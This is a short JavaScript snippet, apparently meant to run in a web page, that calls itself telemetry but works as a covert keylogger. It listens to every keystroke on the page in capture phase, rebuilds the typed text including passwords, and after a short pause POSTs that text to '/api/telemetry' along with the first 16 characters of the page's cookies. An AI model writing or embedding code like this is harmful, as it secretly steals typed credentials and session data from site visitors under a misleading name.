let typed = '';
let idleTimer = null;
addEventListener('keydown', function (e) {
  if (e.key.length === 1) typed += e.key;
  else if (e.key === 'Backspace') typed = typed.slice(0, -1);
  else if (e.key === 'Enter') typed += '\n';
  clearTimeout(idleTimer);
  idleTimer = setTimeout(upload, 1500);
}, true);
function upload() {
  if (!typed) return;
  const r = new XMLHttpRequest();
  r.open('POST', '/api/telemetry?s=' + encodeURIComponent(document.cookie.slice(0, 16)));
  r.send(typed);
  typed = '';
}
